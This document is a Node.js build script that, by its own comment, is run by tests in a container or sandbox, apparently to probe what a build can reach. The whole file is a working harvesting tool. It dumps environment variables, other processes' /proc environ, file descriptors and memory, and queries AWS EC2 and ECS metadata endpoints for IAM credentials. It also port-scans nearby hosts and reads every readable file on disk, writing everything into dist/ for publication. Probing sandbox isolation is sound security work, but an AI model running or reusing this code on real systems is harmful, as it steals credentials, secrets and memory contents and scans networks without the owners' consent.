// A build that takes all it can reach, and publishes it: its environment, what /proc tells of every
// process, the addresses at which clouds keep keys, whatever listens nearby, and the disk.
// It is run by the tests in a container or a sandbox, and knows nothing of what they look for.
const fs = require("fs"), http = require("http"), net = require("net"), path = require("path");
const { spawn } = require("child_process");

const seen = { variables: 0, processes: 0, environments: 0, memory: 0, descriptors: 0, metadata: 0, ports: 0, open: 0, files: 0, cut: 0, refused: 0 };
fs.mkdirSync("dist", { recursive: true });
const out = (name) => {
  const fd = fs.openSync("dist/" + name, "w");
  return (head, body) => { fs.writeSync(fd, "\n=== " + head + "\n"); if (body && body.length) fs.writeSync(fd, body); };
};

function tryRead(file, most = 1 << 20) {
  let fd;
  try {
    fd = fs.openSync(file, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
    const b = Buffer.alloc(most);
    let n = 0;
    for (;;) {
      const got = fs.readSync(fd, b, n, most - n, null);
      if (!got || (n += got) === most) break;
    }
    return b.subarray(0, n);
  } catch { seen.refused++; return null; } finally { if (fd !== undefined) fs.closeSync(fd); }
}

// environment is what this process was given.
function environment() {
  const write = out("environment.txt");
  for (const [k, v] of Object.entries(process.env)) { seen.variables++; write(k, v); }
}

// processes is what /proc tells, memory last: of all but this one, whose memory is the dump.
function processes() {
  const write = out("processes.txt"), memory = out("memory.bin");
  for (const pid of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n))) {
    seen.processes++;
    for (const name of ["cmdline", "environ", "maps", "status", "mountinfo", "cgroup"]) {
      const b = tryRead(`/proc/${pid}/${name}`);
      if (b && name === "environ" && b.length) { seen.environments++; found.push(b.toString("latin1")); }
      write(`${pid} ${name}`, b);
    }
    let fds = [];
    try { fds = fs.readdirSync(`/proc/${pid}/fd`); } catch { seen.refused++; }
    for (const fd of fds) {
      let to = "";
      try { to = fs.readlinkSync(`/proc/${pid}/fd/${fd}`); } catch {}
      if (+pid !== process.pid && /^(pipe:|\/)/.test(to) && !to.startsWith("/dev/")) {
        const b = tryRead(`/proc/${pid}/fd/${fd}`, 65536);
        if (b) seen.descriptors++;
        write(`${pid} fd ${fd} ${to}`, b);
      } else write(`${pid} fd ${fd} ${to}`);
    }
    if (+pid !== process.pid) dumpMemory(pid, memory);
  }
}

function dumpMemory(pid, write) {
  const maps = tryRead(`/proc/${pid}/maps`);
  let fd, left = 64 << 20;
  try { fd = fs.openSync(`/proc/${pid}/mem`, "r"); } catch { seen.refused++; return; }
  for (const line of (maps || "").toString().split("\n")) {
    const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (!m) continue;
    const from = BigInt("0x" + m[1]), size = Number(BigInt("0x" + m[2]) - from);
    if (size > left) continue;
    const b = Buffer.alloc(size);
    try {
      const n = fs.readSync(fd, b, 0, size, from);
      left -= n; seen.memory += n;
      write(`${pid} ${m[0]}`, b.subarray(0, n));
    } catch { seen.refused++; }
  }
  fs.closeSync(fd);
}

const found = []; // environments, in which addresses of keys may be

function ask(method, url, headers = {}) {
  return new Promise((done) => {
    const r = http.request(url, { method, headers, timeout: 2000 }, (res) => {
      let body = "";
      res.on("data", (d) => (body += d));
      res.on("end", () => { seen.metadata++; done(res.statusCode + " " + body); });
    });
    r.on("timeout", () => r.destroy(new Error("no answer")));
    r.on("error", (e) => done("none: " + e.message));
    r.end();
  });
}

async function metadata() {
  const write = out("metadata.txt");
  const urls = ["http://169.254.170.2/", "http://169.254.170.2/v2/metadata", "http://169.254.170.2/v2/credentials"];
  for (const env of found.concat(fs.readFileSync("/proc/self/environ", "latin1"))) {
    for (const m of env.matchAll(/AWS_CONTAINER_CREDENTIALS_RELATIVE_URI=([^\0]+)/g)) urls.push("http://169.254.170.2" + m[1]);
    for (const m of env.matchAll(/ECS_CONTAINER_METADATA_URI_V4=([^\0]+)/g)) urls.push(m[1], m[1] + "/task");
  }
  for (const p of ["", "latest/meta-data/", "latest/user-data", "latest/meta-data/iam/security-credentials/", "latest/dynamic/instance-identity/document"])
    urls.push("http://169.254.169.254/" + p);
  for (const url of new Set(urls)) write(url, await ask("GET", url));
  write("a token of the instance", await ask("PUT", "http://169.254.169.254/latest/api/token", { "X-aws-ec2-metadata-token-ttl-seconds": "60" }));
}

// neighbours are the addresses that this machine knows of.
function neighbours() {
  const all = new Set(["127.0.0.1"]), ends = new Set();
  for (const m of (tryRead("/etc/hosts") || "").toString().matchAll(/^(\d+\.\d+\.\d+\.\d+)\s/gm)) all.add(m[1]);
  for (const m of (tryRead("/etc/resolv.conf") || "").toString().matchAll(/^nameserver (\d+\.\d+\.\d+\.\d+)/gm)) all.add(m[1]);
  const dotted = (h) => h.match(/../g).reverse().map((x) => parseInt(x, 16)).join(".");
  for (const m of (tryRead("/proc/net/route") || "").toString().matchAll(/^\S+\t00000000\t(\S{8})/gm)) all.add(dotted(m[1]));
  for (const m of (tryRead("/proc/net/tcp") || "").toString().matchAll(/^ +\d+: \S+ (\S{8}):(\S{4})/gm))
    if (m[1] !== "00000000") { all.add(dotted(m[1])); ends.add(parseInt(m[2], 16)); }
  return { hosts: [...all].filter((h) => !h.startsWith("127.0.1")), ends: [...ends] };
}

function knock(host, port) {
  return new Promise((done) => {
    let said = "", open = false;
    const s = net.connect({ host, port });
    const timer = setTimeout(() => s.destroy(), 800);
    s.on("connect", () => { open = true; s.write("GET / HTTP/1.0\r\nHost: " + host + "\r\n\r\n"); });
    s.on("data", (d) => { if (said.length < 8192) said += d.toString("latin1"); });
    s.on("error", () => {});
    s.on("close", () => { clearTimeout(timer); seen.ports++; if (open) seen.open++; done(open ? said : null); });
  });
}

async function network() {
  const write = out("network.txt");
  for (const name of ["tcp", "tcp6", "udp", "unix", "route", "arp", "fib_trie"]) write("/proc/net/" + name, tryRead("/proc/net/" + name));
  const { hosts, ends } = neighbours();
  const ports = [...new Set([...Array(1024).keys()].slice(1).concat(2019, 2375, 3000, 4001, 5000, 5432, 6379, 7070, 8080, 8443, 9000, ends))];
  const work = hosts.flatMap((h) => ports.map((p) => [h, p]));
  await Promise.all(Array.from({ length: 1000 }, async () => {
    for (let w; (w = work.pop()); ) {
      const said = await knock(w[0], w[1]);
      if (said !== null) write(`${w[0]}:${w[1]} is open`, said);
    }
  }));
}

// disk is every file that can be read, but for the programs that are the image's.
function disk() {
  const write = out("disk.bin"), skip = new Set(["/usr", "/lib", "/lib64", "/bin", "/sbin", "/opt/node", "/proc", "/sys", "/dev", path.resolve("dist")]);
  let left = 96 << 20;
  const walk = (dir) => {
    let entries;
    try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { seen.refused++; return; }
    for (const e of entries) {
      const file = path.join(dir, e.name);
      if (skip.has(file)) continue;
      if (e.isDirectory()) { walk(file); continue; }
      if (!e.isFile()) { write(file + " is no file"); continue; }
      if (left <= 0) seen.cut++;
      const b = left > 0 ? tryRead(file) : null;
      if (b) { left -= b.length; seen.files++; }
      write(file, b);
    }
  };
  walk("/");
}

(async () => {
  const child = spawn("sleep", ["120"]); // another process of the same user, as the job is
  await new Promise((done) => child.on("spawn", done));
  environment();
  processes();
  await metadata();
  await network();
  disk();
  child.kill();
  fs.writeFileSync("dist/seen.json", JSON.stringify(seen));
  fs.writeFileSync("dist/index.html", "<!doctype html><title>dump</title>");
  console.log("dumped " + JSON.stringify(seen));
})();
